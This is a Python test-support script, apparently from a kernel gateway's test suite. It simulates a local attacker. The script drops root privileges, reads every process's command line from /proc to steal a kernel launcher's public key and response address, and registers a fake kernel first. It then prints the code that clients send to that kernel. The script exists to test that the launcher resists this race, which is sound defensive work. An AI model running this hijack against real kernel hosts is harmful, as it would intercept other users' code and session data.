"""An attacker on a launcher's host: knows what command lines show, reports first, and notes the code that it gets.

``overtaker.py KERNEL_ID`` gives root's rights up, if it has them, and goes on as another account. It prints
``ready`` when it looks out for the launcher, ``reported`` when it has, and then, a line each, what the kernel's clients
wanted to have executed.
"""

from __future__ import annotations

import argparse
import base64
import os
import sys
import time
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

sys.path.insert(0, str(Path(__file__).parents[2]))

from tests.support.bad_launcher import payload, send
from tests.support.tinykernel import TinyKernel

NOBODY = 65534


def become_another_account() -> None:
    """Be one that has nothing to do with the gateway, and may not even read Python's modules."""
    "".encode("idna")  # sockets import it
    payload(rsa.generate_private_key(public_exponent=65537, key_size=2048).public_key(), {})  # and this much else
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)


def command_lines() -> list[list[str]]:
    """Return those of all processes, which any account may read."""
    lines = []
    for directory in Path("/proc").iterdir():
        if directory.name.isdigit():
            try:
                lines.append((directory / "cmdline").read_bytes().decode(errors="replace").split("\0"))
            except OSError:
                continue
    return lines


def launcher_of(kernel_id: str) -> list[str]:
    """Wait for the launcher of a kernel and return its command line."""
    while True:
        for words in command_lines():
            if kernel_id in words and "--public-key" in words:
                return words
        time.sleep(0.01)


def main() -> None:
    """Attack."""
    parser = argparse.ArgumentParser()
    parser.add_argument("kernel_id")
    options = parser.parse_args()
    kernel = TinyKernel()
    kernel.start()
    become_another_account()
    print("ready", flush=True)
    words = launcher_of(options.kernel_id)
    known = {name: words[words.index(name) + 1] for name in ("--public-key", "--response-address")}
    public_key = serialization.load_der_public_key(base64.b64decode(known["--public-key"]))
    info = {**kernel.info.to_dict(), "ip": "0.0.0.0", "kernel_id": options.kernel_id}
    send(known["--response-address"], payload(public_key, info))
    print("reported", flush=True)
    seen = 0
    while True:
        for message in kernel.received[seen:]:
            if message["header"]["msg_type"] == "execute_request":
                print(message["content"]["code"], flush=True)
            seen += 1
        time.sleep(0.01)


if __name__ == "__main__":
    main()
